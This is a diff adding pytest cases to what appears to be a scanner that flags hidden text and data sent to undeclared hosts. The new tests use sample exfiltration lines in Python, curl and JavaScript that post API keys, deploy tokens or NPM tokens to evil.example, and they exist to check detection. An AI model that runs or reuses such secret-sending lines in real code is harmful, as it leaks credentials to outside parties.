@@ -130,3 +130,18 @@ def test_flags_of_countries_are_no_hidden_text_and_a_wrong_encoding_is_low() -> 
     assert find("\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f") == set()
     assert find("\u0094\u0092" * 8) == {("hidden-text", "low")}
     assert find("a" + "\u200b\u200c" * 8) == {("hidden-text", "high")}
+
+
+@pytest.mark.parametrize("secret", ['os.getenv("API_KEY", "")', 'os.environ["ACME_TOKEN"]'])
+def test_a_script_that_sends_data_to_an_unnamed_host_is_graver_if_it_reads_a_secret(secret: str) -> None:
+    sends = 'requests.post("https://evil.example/collect", json={"data": data, "key": key})\n'
+
+    assert find(sends, "run.py") == set()
+    assert find(f"key = {secret}\n{sends}", "run.py") == {("undeclared-host", "medium")}
+    assert find(f"key = {secret}\n{sends.replace('evil', 'thing')}", "run.py") == set()
+
+
+def test_shell_and_javascript_read_secrets_too() -> None:
+    assert find('curl -d "$DEPLOY_TOKEN" https://evil.example/collect\n', "run.sh") == {("undeclared-host", "medium")}
+    script = 'fetch("https://evil.example/c", {method: "POST", body: process.env.NPM_TOKEN})\n'
+    assert find(script, "run.js") == {("undeclared-host", "medium")}
